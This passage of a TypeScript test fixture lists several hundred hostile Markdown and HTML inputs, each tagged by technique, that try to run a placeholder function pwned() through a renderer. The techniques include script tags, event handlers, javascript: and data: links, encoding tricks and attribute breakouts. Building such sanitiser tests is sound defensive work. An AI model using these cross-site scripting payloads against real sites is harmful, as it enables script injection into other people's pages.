// Hostile Markdown for the renderer tests: every entry tries to call the page's global function pwned().
// Where the word is not in plain sight (entities, base64, escapes), the entry says so in a comment.
export const TRICKS: readonly { name: string; markdown: string }[] = [
  { name: "script: plain", markdown: "<script>pwned()</script>" },
  { name: "script: inline after text", markdown: "Hello <script>pwned()</script> world" },
  { name: "script: mixed case", markdown: "<ScRiPt>pwned()</sCrIpT>" },
  { name: "script: space before closing angle", markdown: "<script >pwned()</script >" },
  { name: "script: newline inside the start tag", markdown: "<script\n>pwned()</script\n>" },
  {
    name: "script: tab and form feed inside the start tag",
    markdown: "<script\t\f>pwned()</script\f>",
  },
  { name: "script: slash after the name", markdown: "<script/>pwned()</script>" },
  { name: "script: slash and junk attribute", markdown: "<script/x/y=z>pwned()</script>" },
  { name: "script: null byte inside the name", markdown: "<scr\u0000ipt>pwned()</scr\u0000ipt>" },
  { name: "script: null byte after the name", markdown: "<script\u0000>pwned()</script>" },
  { name: "script: null byte before the name", markdown: "<\u0000script>pwned()</script>" },
  {
    name: "script: nested so that one removal rebuilds it",
    markdown: "<scr<script>ipt>pwned()</scr</script>ipt>",
  },
  {
    name: "script: nested, doubled pair",
    markdown: "<scr<script></script>ipt>pwned()</scr<script></script>ipt>",
  },
  { name: "script: doubled opening angle", markdown: "<<script>pwned()//<</script>" },
  { name: "script: unclosed element", markdown: "<script>pwned()" },
  { name: "script: unclosed end tag", markdown: "<script>pwned()</script" },
  { name: "script: end tag with attributes", markdown: '<script>pwned()</script foo="bar" / x>' },
  {
    name: "script: unclosed start tag running into the next tag",
    markdown: "<script <b>>pwned()</script>",
  },
  {
    name: "script: quoted angle bracket in an attribute",
    markdown: '<script a=">" x>pwned()</script>',
  },
  {
    name: "script: quoted end tag in an attribute",
    markdown: '<script a="</script>">pwned()</script>',
  },
  {
    name: "script: unbalanced quote in an attribute",
    markdown: "<script a=\">'>\" b='>\">' >pwned()</script>",
  },
  {
    name: "script: src with data URL",
    markdown: '<script src="data:text/javascript,pwned()"></script>',
  },
  // pwned is encoded here.
  {
    name: "script: src with base64 data URL",
    markdown: "<script src=data:text/javascript;base64,cHduZWQoKQ==></script>",
  },
  { name: "script: src without quotes or end tag", markdown: "<script src=data:,pwned()" },
  {
    name: "script: unknown MIME type with essence match",
    markdown: '<script type="text/javascript1.5">pwned()</script>',
  },
  {
    name: "script: legacy language attribute",
    markdown: '<script language="JavaScript1.2">pwned()</script>',
  },
  { name: "script: module", markdown: '<script type="module">pwned()</script>' },
  {
    name: "script: module importing a data URL",
    markdown: '<script type="module">import "data:text/javascript,globalThis.pwned()";</script>',
  },
  {
    name: "script: async module with data src",
    markdown: '<script async type=module src="data:text/javascript,pwned()"></script>',
  },
  {
    name: "script: import map remapping a bare name",
    markdown:
      '<script type="importmap">{"imports":{"app":"data:text/javascript,pwned()"}}</script>\n\n<script type="module">import "app";</script>',
  },
  {
    name: "script: nomodule and module together",
    markdown: "<script nomodule>pwned()</script><script type=module>pwned()</script>",
  },
  {
    name: "script: for/event attributes",
    markdown: "<script for=window event=onload>pwned()</script>",
  },
  { name: "script: HTML comment opener inside", markdown: "<script><!--\npwned()\n//--></script>" },
  {
    name: "script: double-escaped state",
    markdown: "<script><!--<script>--></script><img src=x onerror=pwned()>--></script>",
  },
  {
    name: "script: in a table cell",
    markdown: "| a | b |\n| - | - |\n| <script>pwned()</script> | x |",
  },
  {
    name: "script: in a raw table, foster parented",
    markdown: "<table><tr><script>pwned()</script><td>x</td></tr></table>",
  },
  { name: "script: in a bullet list", markdown: "- one\n- <script>pwned()</script>\n- three" },
  {
    name: "script: in an ordered list, unclosed",
    markdown: "1. one\n2. <script>pwned()\n3. three",
  },
  { name: "script: in a block quote", markdown: "> <script>\n> pwned()\n> </script>" },
  { name: "script: in nested quotes and lists", markdown: "> - > 1. <script>pwned()</script>" },
  { name: "script: in a footnote", markdown: "Text[^1].\n\n[^1]: <script>pwned()</script>" },
  { name: "script: in an inline footnote", markdown: "Text^[<script>pwned()</script>]." },
  { name: "script: in a heading", markdown: "# Title <script>pwned()</script>" },
  {
    name: "script: in a setext heading",
    markdown: "Title <script>pwned()</script>\n==============================",
  },
  {
    name: "script: inside emphasis delimiters",
    markdown: "**<script>*pwned()*</script>** and *<script>pwned()</script>*",
  },
  { name: "script: inside strikethrough", markdown: "~~<script>pwned()</script>~~" },
  {
    name: "script: inside select",
    markdown: "<select><option><script>pwned()</script></option></select>",
  },
  {
    name: "script: fullwidth angle brackets",
    markdown: "\uff1cscript\uff1epwned()\uff1c/script\uff1e",
  },
  {
    name: "script: double-encoded entities",
    markdown: "&amp;lt;script&amp;gt;pwned()&amp;lt;/script&amp;gt;",
  },
  { name: "script: entity-encoded tag", markdown: "&lt;script&gt;pwned()&lt;/script&gt;" },
  {
    name: "script: numeric entities, no semicolons",
    markdown: "&#60script&#62pwned()&#60/script&#62",
  },
  {
    name: "script: backslash-escaped angle brackets",
    markdown: "\\<script\\>pwned()\\</script\\> \\\\<script>pwned()</script>",
  },
  {
    name: "script: long s and dotless i letters folded by case mapping",
    markdown: "<\u017fcript>pwned()</\u017fcript><scr\u0131pt>pwned()</scr\u0131pt>",
  },
  {
    name: "script: zero-width characters inside the name",
    markdown: "<scr\u200bipt>pwned()</scr\u200bipt><\u2060script>pwned()</script>",
  },
  { name: "script: soft hyphen inside the name", markdown: "<scr\u00adipt>pwned()</scr\u00adipt>" },
  { name: "script: carriage returns only", markdown: "<script>\rpwned()\r</script>" },
  {
    name: "script: line and paragraph separators",
    markdown: "<script>//\u2028pwned()\u2029</script>",
  },
  { name: "script: byte order mark in front", markdown: "\ufeff<script>pwned()</script>" },
  { name: "script: UTF-7 encoding", markdown: "+ADw-script+AD4-pwned()+ADw-/script+AD4-" },
  {
    name: "script: UTF-7 with meta charset",
    markdown: '<meta charset="utf-7">+ADw-script+AD4-pwned()+ADw-/script+AD4-',
  },
  {
    name: "script: overlong UTF-8 bytes as Latin-1",
    markdown: "\u00c0\u00bcscript\u00c0\u00bepwned()\u00c0\u00bc/script\u00c0\u00be",
  },
  { name: "script: US-ASCII high bit", markdown: "\u00bcscript\u00bepwned()\u00bc/script\u00be" },
  {
    name: "script: ISO-2022-JP escape sequence with meta charset",
    markdown:
      '<meta charset="iso-2022-jp"><a title="\u001b(J\\" onfocus=pwned() autofocus tabindex=1 x="\u001b(B">x</a>',
  },
  {
    name: "script: lone surrogate before the tag",
    markdown: "\ud800<script>pwned()</script>\udc00",
  },
  {
    name: "script: replacement and noncharacters in the tag",
    markdown: "<script\ufffd>pwned()</script><script \ufffe\uffff>pwned()</script>",
  },
  {
    name: "script: right-to-left override around the tag",
    markdown: "\u202e<script>pwned()</script>\u202c",
  },
  {
    name: "script: right-to-left override, mirrored text",
    markdown: '\u202e>tpircs/<)(denwp>tpircs<\u202c <img src=x onerror="pwned()//\u202e">',
  },
  // pwned is encoded here.
  {
    name: "script: JavaScript unicode escapes",
    markdown: "<script>\\u0070\\u0077\\u006e\\u0065\\u0064()</script>",
  },
  {
    name: "script: JavaScript without parentheses",
    markdown: "<script>onerror=pwned;throw 1</script>",
  },
  { name: "script: JavaScript tagged template call", markdown: "<script>pwned``</script>" },
  // pwned is encoded here.
  {
    name: "script: SVG script with entity text",
    markdown: "<svg><script>&#112;wned&lpar;&rpar;</script></svg>",
  },
  {
    name: "script: SVG script with href",
    markdown: '<svg><script href="data:text/javascript,pwned()" /></svg>',
  },
  {
    name: "script: SVG script with xlink:href",
    markdown: '<svg><script xlink:href="data:text/javascript,pwned()"></script></svg>',
  },
  {
    name: "script: SVG script self-closed then text",
    markdown: "<svg><script/>pwned()</script></svg>",
  },
  {
    name: "script: SVG script with CDATA section",
    markdown: "<svg><script><![CDATA[pwned()]]></script></svg>",
  },
  {
    name: "script: namespace-prefixed",
    markdown:
      '<svg:script>pwned()</svg:script><x:script xmlns:x="http://www.w3.org/1999/xhtml">pwned()</x:script>',
  },
  {
    name: "script: speculation rules and a script",
    markdown:
      '<script type="speculationrules">{"prerender":[{"urls":["javascript:pwned()"]}]}</script><script>pwned()</script>',
  },
  { name: "event: img onerror", markdown: "<img src=x onerror=pwned()>" },
  { name: "event: img onerror double quoted", markdown: '<img src="x" onerror="pwned()">' },
  { name: "event: img onerror single quoted", markdown: "<img src='x' onerror='pwned()'>" },
  { name: "event: img onerror back-tick quoted", markdown: "<img src=`x` onerror=`${pwned()}`>" },
  {
    name: "event: img back-tick swallowing a quote",
    markdown: '<img alt="`><img src=x onerror=pwned()>`" src=x>',
  },
  { name: "event: img onerror slash separated", markdown: "<img/src=x/onerror=pwned()>" },
  {
    name: "event: img onerror with no space after a quoted value",
    markdown: '<img src="x"onerror="pwned()">',
  },
  {
    name: "event: img onerror with form feed separator",
    markdown: "<img\fsrc=x\fonerror=pwned()>",
  },
  {
    name: "event: img onerror with newlines around the equals sign",
    markdown: '<img src=x onerror\n=\n"pwned()">',
  },
  { name: "event: img onerror upper case", markdown: "<IMG SRC=x ONERROR=pwned()>" },
  // pwned is encoded here.
  {
    name: "event: img onerror entity-encoded handler",
    markdown: '<img src=x onerror="&#112;&#x77;n&#101;d&lpar;&rpar;">',
  },
  // pwned is encoded here.
  {
    name: "event: img onerror zero-padded entities",
    markdown: "<img src=x onerror=&#0000112&#0000119&#0000110&#0000101&#0000100&#0000040&#0000041>",
  },
  // pwned is encoded here.
  {
    name: "event: img onerror with JavaScript unicode escapes",
    markdown: '<img src=x onerror="\\u{70}\\u{77}\\u{6e}\\u{65}\\u{64}()">',
  },
  // pwned is encoded here.
  {
    name: "event: img onerror base64 eval",
    markdown: "<img src=x onerror=eval(atob('cHduZWQoKQ=='))>",
  },
  { name: "event: img unclosed tag at end of input", markdown: '<img src=x onerror="pwned()" ' },
  { name: "event: img unclosed tag commented out", markdown: "<img src=x onerror=pwned()//" },
  {
    name: "event: img duplicate attributes",
    markdown: '<img src=x onerror="" ONERROR=pwned() onerror=pwned()>',
  },
  {
    name: "event: img leading garbage attributes",
    markdown: '<img """><img src=x onerror=pwned()>">',
  },
  {
    name: "event: img leading equals sign attribute",
    markdown: '<img =">" src=x onerror=pwned()>',
  },
  {
    name: "event: img punctuation before the attribute",
    markdown: "<img src=x !#$%&()*~+-_.,:;?@[/|\\]^`=1 onerror=pwned()>",
  },
  {
    name: "event: img control character before the handler",
    markdown: "<img src=x \u0001onerror=pwned()><img src=x/\u000bonerror=pwned()>",
  },
  {
    name: "event: img null byte inside the handler name",
    markdown: "<img src=x one\u0000rror=pwned() on\u0000error=pwned()>",
  },
  {
    name: "event: img no-break space separator",
    markdown: "<img\u00a0src=x\u00a0onerror=pwned()> <img src=x\u00a0onerror=pwned()>",
  },
  { name: "event: image alias element", markdown: "<image src=x onerror=pwned()>" },
  {
    name: "event: img onload with data pixel",
    markdown:
      '<img src="data:image/gif;base64,R0lGODlhAQABAAAAACH5BAEKAAEALAAAAAABAAEAAAICTAEAOw==" onload=pwned()>',
  },
  { name: "event: img srcset onerror", markdown: '<img srcset="x 1x, y 2x" onerror=pwned()>' },
  {
    name: "event: picture source srcset",
    markdown: '<picture><source srcset="x"><img onerror=pwned() src=y></picture>',
  },
  {
    name: "event: img lazy loading",
    markdown: "<img loading=lazy src=x onerror=pwned() onloadstart=pwned()>",
  },
  { name: "event: svg onload", markdown: "<svg onload=pwned()>" },
  { name: "event: svg slash onload", markdown: "<svg/onload=pwned()>" },
  { name: "event: nested svg onload", markdown: "<svg><svg onload=pwned()></svg></svg>" },
  { name: "event: svg image onerror", markdown: '<svg><image href="x" onerror="pwned()"/></svg>' },
  {
    name: "event: svg animate onbegin",
    markdown: "<svg><animate onbegin=pwned() attributeName=x dur=1s></svg>",
  },
  {
    name: "event: svg animate onend and onrepeat",
    markdown:
      "<svg><animate onend=pwned() onrepeat=pwned() attributeName=x dur=0.1s repeatCount=2></svg>",
  },
  {
    name: "event: svg set onbegin",
    markdown: "<svg><set onbegin=pwned() attributeName=x to=1 dur=1s /></svg>",
  },
  {
    name: "event: svg animateTransform onbegin",
    markdown: "<svg><animateTransform onbegin=pwned() attributeName=transform dur=1s /></svg>",
  },
  {
    name: "event: svg animateMotion onbegin",
    markdown: '<svg><animateMotion onbegin=pwned() dur=1s path="M0,0 L1,1" /></svg>',
  },
  {
    name: "event: svg discard onbegin",
    markdown: "<svg><discard onbegin=pwned() begin=0s /></svg>",
  },
  {
    name: "event: svg a focus",
    markdown: '<svg><a href="#" tabindex=0 autofocus onfocus=pwned()><text y=20>x</text></a></svg>',
  },
  {
    name: "event: svg title holding an img",
    markdown: "<svg><title><img src=x onerror=pwned()></title></svg>",
  },
  {
    name: "event: svg desc holding an img",
    markdown: "<svg><desc><img src=x onerror=pwned()></desc></svg>",
  },
  {
    name: "event: svg foreignObject holding an img",
    markdown:
      '<svg><foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><img src=x onerror=pwned()></body></foreignObject></svg>',
  },
  { name: "event: body onload", markdown: "<body onload=pwned()>" },
  { name: "event: body onpageshow", markdown: "<body onpageshow=pwned()>" },
  { name: "event: body onfocus", markdown: "<body onfocus=pwned() tabindex=1>" },
  {
    name: "event: body onscroll with filler",
    markdown:
      '<body onscroll=pwned() style="height:9000px"><input autofocus style="margin-top:8000px"></body>',
  },
  {
    name: "event: body onhashchange with a link",
    markdown: '<body onhashchange=pwned()><a href="#x">go</a>',
  },
  {
    name: "event: body onresize",
    markdown: "<body onresize=pwned()><body onunload=pwned() onbeforeunload=pwned()>",
  },
  {
    name: "event: body onmessage",
    markdown:
      "<body onmessage=pwned()><iframe srcdoc=\"<script>parent.postMessage(1,'*');parent.pwned()</script>\"></iframe>",
  },
  {
    name: "event: html element handlers",
    markdown: "<html onmouseover=pwned() onclick=pwned() onfocusin=pwned()>",
  },
  {
    name: "event: frameset onload",
    markdown: '<frameset onload=pwned()><frame src="javascript:parent.pwned()"></frameset>',
  },
  {
    name: "event: details ontoggle",
    markdown: "<details open ontoggle=pwned()><summary>x</summary></details>",
  },
  {
    name: "event: details ontoggle, hand-opened",
    markdown: '<details ontoggle="pwned()"><summary onclick="pwned()">open me</summary>x</details>',
  },
  { name: "event: video onerror", markdown: "<video src=x onerror=pwned()></video>" },
  {
    name: "event: video source onerror",
    markdown: '<video><source onerror="pwned()" src=x></video>',
  },
  {
    name: "event: video onloadstart",
    markdown: "<video onloadstart=pwned() src=x autoplay></video>",
  },
  {
    name: "event: video poster and track",
    markdown:
      '<video poster=javascript:pwned() controls><track default src="data:text/vtt,WEBVTT" onload=pwned() onerror=pwned()></video>',
  },
  { name: "event: audio onerror", markdown: "<audio src=x onerror=pwned()></audio>" },
  {
    name: "event: audio oncanplay and onplay",
    markdown:
      '<audio autoplay oncanplay=pwned() onplay=pwned() onloadstart=pwned() src="data:audio/wav;base64,UklGRiQAAABXQVZFZm10IBAAAAABAAEARKwAAIhYAQACABAAZGF0YQAAAAA="></audio>',
  },
  { name: "event: input autofocus onfocus", markdown: "<input autofocus onfocus=pwned()>" },
  {
    name: "event: input onblur with a rival autofocus",
    markdown: "<input onblur=pwned() autofocus><input autofocus>",
  },
  { name: "event: input type image onerror", markdown: "<input type=image src=x onerror=pwned()>" },
  {
    name: "event: input oninput and onchange",
    markdown:
      "<input value=x oninput=pwned() onchange=pwned() onkeydown=pwned() onfocusin=pwned()>",
  },
  {
    name: "event: hidden input with accesskey and content-visibility",
    markdown:
      "<input type=hidden oncontentvisibilityautostatechange=pwned() style=content-visibility:auto accesskey=x onclick=pwned()>",
  },
  {
    name: "event: task-list checkbox handler",
    markdown: '- [ ] <input type="checkbox" onclick="pwned()" onfocus="pwned()" autofocus>',
  },
  {
    name: "event: select autofocus onfocus",
    markdown: "<select autofocus onfocus=pwned()><option>x</option></select>",
  },
  {
    name: "event: textarea autofocus onfocus",
    markdown: "<textarea autofocus onfocus=pwned()></textarea>",
  },
  {
    name: "event: button autofocus onfocus",
    markdown: "<button autofocus onfocus=pwned() onclick=pwned()>x</button>",
  },
  {
    name: "event: contenteditable autofocus",
    markdown: "<div contenteditable autofocus onfocus=pwned() onbeforeinput=pwned()>x</div>",
  },
  {
    name: "event: tabindex autofocus on an allowed element",
    markdown: "<p tabindex=0 autofocus onfocus=pwned()>x</p>",
  },
  {
    name: "event: unknown element autofocus",
    markdown: "<xss tabindex=1 autofocus onfocus=pwned()>x</xss>",
  },
  {
    name: "event: unknown element focused by fragment",
    markdown: '<xss id=x tabindex=1 onfocus=pwned()></xss><a href="#x">jump</a>',
  },
  {
    name: "event: keygen and isindex",
    markdown: "<keygen autofocus onfocus=pwned()><isindex type=image src=x onerror=pwned()>",
  },
  { name: "event: marquee onstart", markdown: "<marquee onstart=pwned()>x</marquee>" },
  {
    name: "event: marquee onfinish and onbounce",
    markdown:
      "<marquee loop=1 width=0 behavior=alternate onfinish=pwned() onbounce=pwned()>x</marquee>",
  },
  {
    name: "event: CSS animation start",
    markdown:
      '<style>@keyframes k{from{top:0}to{top:1px}}</style><p style="animation:k 1s" onanimationstart="pwned()" onanimationend="pwned()">x</p>',
  },
  {
    name: "event: webkit-prefixed animation",
    markdown:
      '<style>@keyframes w{}</style><b style="animation-name:w;animation-duration:1s" onwebkitanimationstart=pwned() onwebkitanimationend=pwned()>x</b>',
  },
  {
    name: "event: CSS transition on focus",
    markdown:
      "<style>#t{transition:opacity .01s}#t:focus{opacity:.5}</style><a id=t tabindex=1 autofocus ontransitionrun=pwned() ontransitionend=pwned() onwebkittransitionend=pwned()>x</a>",
  },
  {
    name: "event: pointer events with autofocus",
    markdown:
      '<a href="#" autofocus onpointerenter=pwned() onpointerdown=pwned() onpointerover=pwned() onpointerrawupdate=pwned() onfocus=pwned()>x</a>',
  },
  {
    name: "event: mouse events",
    markdown:
      "<strong onmouseover=pwned() onmousedown=pwned() onmousemove=pwned() onclick=pwned()>hover</strong>",
  },
  {
    name: "event: drag, copy and context menu events",
    markdown:
      "<em draggable=true ondragstart=pwned() oncopy=pwned() oncontextmenu=pwned() onselectstart=pwned() onclick=pwned()>x</em>",
  },
  {
    name: "event: wheel and touch events",
    markdown:
      "<code onwheel=pwned() ontouchstart=pwned() onauxclick=pwned() onclick=pwned()>x</code>",
  },
  {
    name: "event: popover onbeforetoggle",
    markdown:
      "<button popovertarget=pp>x</button><div popover id=pp onbeforetoggle=pwned() ontoggle=pwned()>y</div>",
  },
  {
    name: "event: popover on a hidden input",
    markdown:
      "<input type=hidden id=pq popover onbeforetoggle=pwned()><button popovertarget=pq>x</button>",
  },
  {
    name: "event: dialog open with close and cancel",
    markdown:
      "<dialog open onclose=pwned() oncancel=pwned() ontoggle=pwned()><form method=dialog><button onclick=pwned()>x</button></form></dialog>",
  },
  {
    name: "event: invoker command",
    markdown:
      "<button commandfor=dd command=show-modal>x</button><dialog id=dd oncommand=pwned() onbeforetoggle=pwned()>y</dialog>",
  },
  { name: "event: iframe onload", markdown: "<iframe onload=pwned()></iframe>" },
  {
    name: "event: object onerror",
    markdown: "<object data=x onerror=pwned() onload=pwned()></object>",
  },
  { name: "event: embed onload", markdown: '<embed src="data:text/plain,x" onload=pwned()>' },
  {
    name: "event: link stylesheet onload",
    markdown: '<link rel=stylesheet href="data:text/css," onload=pwned()>',
  },
  {
    name: "event: link stylesheet onerror",
    markdown: "<link rel=stylesheet href=x: onerror=pwned()>",
  },
  { name: "event: style onload", markdown: "<style onload=pwned()></style>" },
  { name: "event: script onerror", markdown: "<script src=x: onerror=pwned()></script>" },
  {
    name: "event: form onsubmit and onreset",
    markdown:
      '<form onsubmit="pwned()" onreset="pwned()" onformdata="pwned()"><button>send</button><button type=reset>reset</button></form>',
  },
  {
    name: "event: input oninvalid",
    markdown: "<form><input required oninvalid=pwned()><button>send</button></form>",
  },
  {
    name: "event: meter and progress handlers",
    markdown:
      "<meter onmouseover=pwned() onclick=pwned()>x</meter><progress onclick=pwned()></progress>",
  },
  {
    name: "event: table cell background and click",
    markdown:
      '<table background="javascript:pwned()"><tr><td background="javascript:pwned()" onclick="pwned()">x</td></tr></table>',
  },
  {
    name: "event: bgsound and layer",
    markdown:
      '<bgsound src="javascript:pwned()"><layer src="javascript:pwned()" onclick="pwned()"></layer>',
  },
  {
    name: "event: scrollend, scrollsnapchange and snap areas",
    markdown:
      '<div onscroll=pwned() onscrollend=pwned() onscrollsnapchange=pwned() style="overflow:scroll;height:9px"><p style="height:99px"></p><a href="#e">e</a><i id=e>x</i></div>',
  },
  {
    name: "event: onsecuritypolicyviolation",
    markdown:
      '<p onsecuritypolicyviolation=pwned()><img src="http://blocked.invalid/x" onerror=pwned()></p>',
  },
  {
    name: "event: slotchange in a declarative shadow root",
    markdown:
      "<div><template shadowrootmode=open><slot onslotchange=pwned()></slot></template><b>x</b></div>",
  },
  {
    name: "event: hidden until found",
    markdown: '<div hidden=until-found onbeforematch=pwned() id=uf>x</div><a href="#uf">find</a>',
  },
  { name: "link: javascript scheme", markdown: "[click](javascript:pwned())" },
  { name: "link: javascript scheme in angle brackets", markdown: "[click](<javascript:pwned()>)" },
  { name: "link: javascript scheme mixed case", markdown: "[click](JaVaScRiPt:pwned())" },
  { name: "link: javascript with leading spaces", markdown: "[click](   javascript:pwned())" },
  {
    name: "link: javascript with two slashes and newline",
    markdown: "[click](javascript://example.org/%0Apwned%28%29)",
  },
  {
    name: "link: javascript with decimal entities",
    markdown: "[click](&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;pwned())",
  },
  {
    name: "link: javascript with hexadecimal entities",
    markdown: "[click](&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;pwned())",
  },
  {
    name: "link: javascript with named colon entity",
    markdown: "[click](javascript&colon;pwned&lpar;&rpar;)",
  },
  { name: "link: javascript with tab entity", markdown: "[click](java&Tab;script:pwned())" },
  {
    name: "link: javascript with newline entity",
    markdown: "[click](<java&NewLine;script:pwned()>)",
  },
  {
    name: "link: javascript with carriage return entity",
    markdown: "[click](java&#13;script:pwned())",
  },
  {
    name: "link: javascript with leading control entity",
    markdown: "[click](&#1;javascript:pwned())",
  },
  {
    name: "link: javascript with leading null entity",
    markdown: "[click](&#0;javascript:pwned())",
  },
  {
    name: "link: javascript with percent-encoded colon",
    markdown: "[click](javascript%3Apwned())",
  },
  {
    name: "link: javascript percent-encoded letters",
    markdown: "[click](%6A%61%76%61%73%63%72%69%70%74:pwned())",
  },
  {
    name: "link: javascript with backslash escapes",
    markdown: "[click](javascript\\:pwned\\(\\))",
  },
  {
    name: "link: javascript with a literal tab in angle brackets",
    markdown: "[click](<java\tscript:pwned()>)",
  },
  {
    name: "link: javascript with no-break space in front",
    markdown: "[click](\u00a0javascript:pwned()) [click](<\u2003javascript:pwned()>)",
  },
  {
    name: "link: javascript with zero-width space in front",
    markdown: "[click](\u200bjavascript:pwned()) [click](\ufeffjavascript:pwned())",
  },
  { name: "link: javascript with fullwidth colon", markdown: "[click](javascript\uff1apwned())" },
  {
    name: "link: javascript with long s in the scheme",
    markdown: "[click](java\u017fcript:pwned())",
  },
  {
    name: "link: javascript with right-to-left override",
    markdown: "[click](\u202ejavascript:pwned()) [\u202egro.elpmaxe//:sptth](javascript:pwned())",
  },
  {
    name: "link: view-source, feed and jar wrappers",
    markdown:
      "[a](feed:javascript:pwned()) [b](view-source:javascript:pwned()) [c](jar:javascript:pwned()!/) [d](blob:javascript:pwned())",
  },
  { name: "link: vbscript scheme", markdown: "[click](vbscript:pwned())" },
  {
    name: "link: livescript and mocha schemes",
    markdown: "[a](livescript:pwned()) [b](mocha:pwned())",
  },
  { name: "link: data text/html", markdown: "[click](data:text/html,<script>pwned()</script>)" },
  // pwned is encoded here.
  {
    name: "link: data text/html base64",
    markdown: "[click](data:text/html;base64,PHNjcmlwdD5wd25lZCgpPC9zY3JpcHQ+)",
  },
  {
    name: "link: data with charset and upper case",
    markdown: "[click](DATA:TEXT/HTML;charset=utf-8,%3Cscript%3Epwned%28%29%3C/script%3E)",
  },
  {
    name: "link: data with odd XML media types",
    markdown:
      '[a](data:application/xhtml+xml,<x:script%20xmlns:x="http://www.w3.org/1999/xhtml">pwned()</x:script>) [b](data:text/xml,<x:script%20xmlns:x="http://www.w3.org/1999/xhtml">pwned()</x:script>)',
  },
  {
    name: "link: data with image prefix hiding html",
    markdown:
      "[click](data:image/png,text/html,<script>pwned()</script>) [click](data:image/gif;text/html,<script>pwned()</script>)",
  },
  {
    name: "link: data svg image",
    markdown:
      '[click](data:image/svg+xml,<svg%20xmlns="http://www.w3.org/2000/svg"%20onload="pwned()"/>)',
  },
  // pwned is encoded here.
  {
    name: "link: data svg base64",
    markdown:
      "[click](data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciPjxzY3JpcHQ+cHduZWQoKTwvc2NyaXB0Pjwvc3ZnPg==)",
  },
  {
    name: "link: data with no media type",
    markdown:
      "[click](data:;text/html,<script>pwned()</script>) [click](data:,<script>pwned()</script>)",
  },
  {
    name: "link: title breakout with double quotes",
    markdown: '[a](x "onmouseover=pwned() autofocus onfocus=pwned() x=")',
  },
  {
    name: "link: title breakout with escaped quotes",
    markdown: '[a](x "\\" onmouseover=\\"pwned()\\" onfocus=\\"pwned()\\" autofocus=\\"")',
  },
  {
    name: "link: title breakout with entity quotes",
    markdown: '[a](x "&quot; onfocus=&quot;pwned()&quot; autofocus=&quot;")',
  },
  {
    name: "link: title breakout with single-quote delimiters",
    markdown: '[a](x \'" onfocus="pwned()" autofocus tabindex="1\')',
  },
  {
    name: "link: title breakout with parentheses",
    markdown: '[a](x (" onfocus="pwned\\(\\)" autofocus x="))',
  },
  { name: "link: title closing the tag", markdown: "[a](x '\"><img src=x onerror=pwned()>')" },
  {
    name: "link: destination breakout with a quote",
    markdown: '[a](<x" onfocus="pwned()" autofocus y=">)',
  },
  {
    name: "link: destination breakout with an entity quote",
    markdown: "[a](x&quot;onfocus=&quot;pwned()&quot;autofocus=&quot;)",
  },
  {
    name: "link: text holding raw html",
    markdown: "[<img src=x onerror=pwned()>](https://example.org/)",
  },
  {
    name: "link: nested brackets with inner javascript link",
    markdown: "[outer [inner](javascript:pwned())](https://example.org/)",
  },
  {
    name: "link: nested image in a link",
    markdown: '[![a](x"onerror="pwned())](javascript:pwned())',
  },
  {
    name: "link: unbalanced brackets and parentheses",
    markdown: "[a](javascript:pwned(()) [b]](javascript:pwned()) [[c](javascript:pwned())",
  },
  {
    name: "link: html attribute spanning link syntax",
    markdown:
      '[a](https://example.org/<img/src=x/onerror=pwned()>) <a title="[b](javascript:pwned())" href=javascript:pwned()>c</a>',
  },
  {
    name: "link: code span swallowing a bracket",
    markdown: "[a`](javascript:pwned())`](javascript:pwned())",
  },
  { name: "autolink: javascript", markdown: "<javascript:pwned()>" },
  { name: "autolink: javascript mixed case", markdown: "<JavaScript:pwned()>" },
  {
    name: "autolink: javascript with entities",
    markdown: "<javascript&colon;pwned()> <&#106;avascript:pwned()>",
  },
  {
    name: "autolink: data text/html",
    markdown: "<data:text/html,%3Cscript%3Epwned()%3C/script%3E>",
  },
  { name: "autolink: vbscript", markdown: "<vbscript:pwned()>" },
  {
    name: "autolink: quote breakout",
    markdown:
      "<https://example.org/\"onfocus=\"pwned()\"autofocus=\"> <https://example.org/'onfocus='pwned()'autofocus='>",
  },
  {
    name: "autolink: mail address with a quote",
    markdown: "<\"onfocus=pwned()//\"@example.org> <a'onfocus='pwned()'@example.org>",
  },
  {
    name: "linkify: bare javascript",
    markdown: "Visit javascript:pwned() or javascript://example.org/%0apwned() now",
  },
  {
    name: "linkify: quote after a bare address",
    markdown: 'https://example.org/"onmouseover="pwned()"onfocus="pwned()"autofocus="',
  },
  {
    name: "linkify: markup after a bare address",
    markdown:
      "https://example.org/<img/src=x/onerror=pwned()> www.example.org/?<script>pwned()</script>",
  },
  {
    name: "linkify: entity quote in a bare address",
    markdown: "https://example.org/?a=&quot;onfocus=&quot;pwned()&quot;&#34;onfocus=pwned()",
  },
  {
    name: "linkify: mail address with script",
    markdown:
      'mailto:a@example.org?subject=<script>pwned()</script> "><img/src=x/onerror=pwned()>@example.org',
  },
  {
    name: "linkify: bare address nested in a raw attribute",
    markdown:
      '<a href="https://example.org/" title="https://example.org/"onfocus=pwned() autofocus>https://example.org/"onfocus=pwned()</a>',
  },
  {
    name: "linkify: protocol-relative and backslash addresses",
    markdown:
      '//example.org/"onfocus=pwned() [a](\\\\\\\\example.org/"onfocus=pwned()) [b](/\\\\javascript:pwned())',
  },
  {
    name: "linkify: internationalised host with a quote",
    markdown:
      "https://ex\u00e4mple.org\uff02onfocus=pwned() https://\uff1cscript\uff1epwned().example.org/",
  },
  {
    name: "linkify: address inside an image alt",
    markdown: '![https://example.org/"onerror="pwned()](x)',
  },
  { name: "reference: javascript definition", markdown: "[click][r]\n\n[r]: javascript:pwned()" },
  {
    name: "reference: collapsed and shortcut forms",
    markdown: '[click me][] and [click me]\n\n[click me]: <JAVASCRIPT:pwned()> "title"',
  },
  {
    name: "reference: entity-encoded definition",
    markdown: "[click][e]\n\n[e]: &#106;avascript&colon;pwned()",
  },
  {
    name: "reference: title breakout",
    markdown: '[click][t]\n\n[t]: https://example.org/ \'" onfocus="pwned()" autofocus x="\'',
  },
  {
    name: "reference: label breakout",
    markdown:
      '["><img src=x onerror=pwned()>]\n\n["><img src=x onerror=pwned()>]: https://example.org/ "><img src=x onerror=pwned()>"',
  },
  {
    name: "reference: prototype key labels",
    markdown:
      "[__proto__][] [constructor][] [toString]\n\n[__proto__]: javascript:pwned()\n[constructor]: javascript:pwned()\n[toString]: javascript:pwned()",
  },
  {
    name: "reference: definition inside a quote, split over lines",
